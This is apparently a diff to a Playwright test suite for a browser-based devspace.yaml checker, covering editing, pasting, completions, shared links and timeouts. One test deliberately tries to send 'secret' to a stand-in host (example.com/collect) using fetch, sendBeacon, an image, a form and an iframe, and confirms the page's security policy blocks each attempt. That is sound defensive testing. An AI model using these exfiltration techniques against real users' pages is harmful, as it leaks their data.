@@ -1,5 +1,9 @@
 /** The page "Check your devspace.yaml". */
+import {readFileSync} from 'node:fs';
+import path from 'node:path';
 import type {Locator, Page} from '@playwright/test';
+import {globSync} from 'tinyglobby';
+import {buildDir} from '../lib/built-site.ts';
 import {ALL_RULES, findViolations} from './axe.ts';
 import {expect, test} from './fixtures.ts';
 
@@ -21,14 +25,42 @@ function problems(page: Page): Locator {
   return page.getByRole('list', {name: 'Problems'}).getByRole('listitem');
 }
 
-test.beforeEach(async ({visit}) => {
+/** Replaces the text, by pasting: typing a long text takes minutes. */
+async function paste(page: Page, text: string): Promise<void> {
+  await editor(page).focus();
+  await page.keyboard.press('ControlOrMeta+A');
+  await editor(page).evaluate((element, content) => {
+    const clipboardData = new DataTransfer();
+    clipboardData.setData('text/plain', content);
+    const options = {clipboardData, bubbles: true, cancelable: true};
+    element.dispatchEvent(new ClipboardEvent('paste', options));
+  }, text);
+}
+
+/** The content of the editor, with spaces for line breaks. */
+async function expectText(page: Page, text: string): Promise<void> {
+  await expect(editor(page)).toHaveText(text.trim().replaceAll('\n', ' '), {useInnerText: true});
+}
+
+/** A script file that contains the code editor. */
+function editorChunk(): string {
+  const files = globSync('assets/js/*.js', {cwd: buildDir});
+  const file = files.find((name) =>
+    readFileSync(path.join(buildDir, name), 'utf8').includes('cm-editor'),
+  );
+  if (file === undefined) throw new Error('No script contains the editor. Update the test.');
+  return file;
+}
+
+test.beforeEach(async ({page, visit}) => {
   await visit('tools/check');
+  await expect(page.locator('.cm-content')).toBeVisible();
 });
 
 test('reports problems as you type, with their locations and fields', async ({page}) => {
   const sent: string[] = [];
   page.on('request', (request) => sent.push(`${request.method()} ${request.postData() ?? ''}`));
-  await editor(page).fill(BROKEN);
+  await paste(page, BROKEN);
   await expect(page.getByRole('status').filter({hasText: 'errors'})).toHaveText(
     '2 errors and 1 warning in v2beta1 (DevSpace 6.x).',
   );
@@ -43,12 +75,11 @@ test('reports problems as you type, with their locations and fields', async ({pa
 
   await name!.getByRole('button').click();
   await expect(editor(page)).toBeFocused();
-  const selected = await editor(page).evaluate((field: HTMLTextAreaElement) =>
-    field.value.slice(field.selectionStart, field.selectionEnd),
-  );
-  expect(selected).toBe('apj');
+  // The wrong name is selected.
+  await page.keyboard.type('api');
+  await expect(problems(page)).toHaveCount(2);
 
-  await editor(page).fill(BROKEN.replace('tag: ${TAG}', 'tags: [v1]').replace('apj', 'api'));
+  await paste(page, BROKEN.replace('tag: ${TAG}', 'tags: [v1]').replace('apj', 'api'));
   await expect(page.getByText('No problems found in v2beta1')).toBeVisible();
   // Only schemas and code were requested.
   expect(sent.filter((request) => request !== 'GET ')).toEqual([]);
@@ -59,7 +90,7 @@ test('opens files, and refuses those that it cannot check', async ({page}) => {
   const open = (buffer: Buffer): Promise<void> =>
     input.setInputFiles({name: 'devspace.yaml', mimeType: 'text/yaml', buffer});
   await open(Buffer.from('version: v1beta11\nvars: []\n'));
-  await expect(editor(page)).toHaveValue('version: v1beta11\nvars: []\n');
+  await expectText(page, 'version: v1beta11\nvars: []');
   await expect(page.getByText('No problems found in v1beta11 (DevSpace 5.x)')).toBeVisible();
   await expect(page.getByRole('rowheader', {name: 'vars'})).toBeVisible();
   await page.getByLabel('Config version').selectOption('6.x');
@@ -77,16 +108,7 @@ test('stays responsive while it checks a file of 10,000 lines', async ({page}) =
     (_, index) => `  app-${index}:\n    imge: a\n    tags: 1\n    docker: {}\n`,
   );
   const text = `version: v2beta1\nname: my-app\nimages:\n${entries.join('')}`;
-  // Unlike a paste, `fill` inserts a long text line by line, which takes minutes.
-  await page.evaluate((content) => {
-    const source = document.createElement('textarea');
-    source.value = content;
-    document.body.append(source);
-    source.select();
-  }, text);
-  await page.keyboard.press('Control+C');
-  await editor(page).focus();
-  await page.keyboard.press('Control+V');
+  await paste(page, text);
   const longest = await page.evaluate(
     () =>
       new Promise<number>((resolve) => {
@@ -109,7 +131,7 @@ test('stays responsive while it checks a file of 10,000 lines', async ({page}) =
 test('shares a file in a link, which no request contains', async ({page, visit}) => {
   const text = 'version: v2beta1\nname: shared\n';
   await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
-  await editor(page).fill(text);
+  await paste(page, text);
   expect(page.url()).not.toContain('#');
   await page.getByRole('button', {name: 'Copy link with this file'}).click();
   await expect(page.getByRole('button', {name: 'Link copied'})).toBeVisible();
@@ -118,12 +140,129 @@ test('shares a file in a link, which no request contains', async ({page, visit})
   page.on('request', (request) => sent.push(request.url()));
   await visit('');
   await visit(`tools/check${link.hash}`);
-  await expect(editor(page)).toHaveValue(text);
+  await expectText(page, text);
   expect(sent.filter((url) => url.includes(link.hash.slice(8)))).toEqual([]);
 
   // After an edit, the URL would show another file than the editor.
-  await editor(page).fill(`${text}# edited\n`);
+  await paste(page, `${text}# edited\n`);
   expect(page.url()).not.toContain('#');
   await visit('tools/check#config=AAAA');
   await expect(page.getByText('The link is incomplete: copy it again.')).toBeVisible();
+});
+
+test('stops a check that takes too long, and says so', async ({page, visit}) => {
+  await page.clock.install();
+  // The schemas never arrive.
+  await page.route('**/schema/v2beta1.json', () => new Promise(() => {}));
+  await visit('tools/check');
+  await paste(page, BROKEN);
+  await page.clock.runFor(1_000);
+  await expect(page.getByText('Checking…')).toBeVisible();
+  await page.clock.fastForward(31_000);
+  await expect(page.getByText('The check took too long, and was stopped.')).toBeVisible();
+});
+
+test('completes and describes fields', async ({page}) => {
+  await paste(page, 'version: v2beta1\nname: my-app\nimages:\n  api:\n    ');
+  await page.keyboard.type('reb');
+  const list = page.getByRole('listbox', {name: 'Completions'});
+  await expect(list.getByRole('option', {name: /^rebuildStrategy/})).toBeVisible();
+  await expect(page.getByText('When DevSpace rebuilds the image')).toBeVisible();
+  await page.waitForTimeout(200);
+  await page.keyboard.press('Enter');
+  await page.keyboard.type('al');
+  await expect(list.getByRole('option', {name: 'always'})).toBeVisible();
+  await page.waitForTimeout(200);
+  await page.keyboard.press('Enter');
+  await expectText(
+    page,
+    'version: v2beta1\nname: my-app\nimages:\n  api:\n    rebuildStrategy: always',
+  );
+  await page.getByText('rebuildStrategy', {exact: true}).first().hover();
+  await expect(page.locator('.cm-tooltip-hover').getByRole('link')).toHaveAttribute(
+    'href',
+    /configuration\/reference#images-rebuildStrategy$/,
+  );
+});
+
+test('leaves the editor with Tab', async ({page}) => {
+  await editor(page).focus();
+  await page.keyboard.press('Tab');
+  await expect(editor(page)).not.toBeFocused();
+});
+
+test('opens a dropped file', async ({page}) => {
+  await editor(page).evaluate((element) => {
+    const dataTransfer = new DataTransfer();
+    dataTransfer.items.add(new File(['version: v2beta1\nname: dropped\n'], 'devspace.yaml'));
+    const options = {dataTransfer, bubbles: true, cancelable: true, composed: true};
+    element.dispatchEvent(new DragEvent('drop', options));
+  });
+  await expectText(page, 'version: v2beta1\nname: dropped');
+});
+
+test.describe('if the editor fails to load', () => {
+  test.use({
+    allowedProblems: [
+      {pattern: /ERR_FAILED|ChunkLoadError|Loading chunk/, reason: 'the test takes the file away'},
+    ],
+  });
+
+  test('a text field takes its place', async ({page, visit}) => {
+    await page.route(`**/${editorChunk()}`, (route) => route.abort());
+    await visit('tools/check');
+    await expect(page.locator('textarea')).toBeVisible();
+    await editor(page).fill(BROKEN);
+    await expect(problems(page)).toHaveCount(3);
+  });
+});
+
+test.describe('the policy of the page', () => {
+  test.use({
+    allowedProblems: [
+      {pattern: /Content Security Policy|violates|Refused/, reason: 'the test provokes it'},
+    ],
+  });
+
+  test('lets no text out of the browser', async ({page}) => {
+    const answered: string[] = [];
+    page.on('response', (response) => answered.push(response.url()));
+    const blocked = await page.evaluate(async () => {
+      const target = 'https://example.com/collect';
+      const directives = new Set<string>();
+      document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
+        directives.add(effectiveDirective),
+      );
+      await fetch(target, {method: 'POST', body: 'secret'}).catch(() => undefined);
+      navigator.sendBeacon(target, 'secret');
+      new Image().src = target;
+      const form = document.createElement('form');
+      form.action = target;
+      form.method = 'post';
+      document.body.append(form);
+      form.submit();
+      const frame = document.createElement('iframe');
+      frame.src = target;
+      document.body.append(frame);
+      await new Promise((resolve) => {
+        setTimeout(resolve, 500);
+      });
+      return [...directives].sort();
+    });
+    expect(blocked).toEqual(['connect-src', 'form-action', 'frame-src', 'img-src']);
+    expect(answered.filter((url) => url.includes('example.com'))).toEqual([]);
+  });
+});
+
+test('only the check page loads the editor', async ({page, visit}) => {
+  const chunk = editorChunk();
+  const loaded: string[] = [];
+  page.on('request', (request) => loaded.push(request.url()));
+  for (const other of ['', 'configuration/reference', 'troubleshooting/errors']) {
+    await visit(other);
+    await page.waitForTimeout(500);
+  }
+  expect(loaded.filter((url) => url.endsWith(chunk))).toEqual([]);
+  await visit('tools/check');
+  await expect.poll(() => loaded.some((url) => url.endsWith(chunk))).toBe(true);
 });
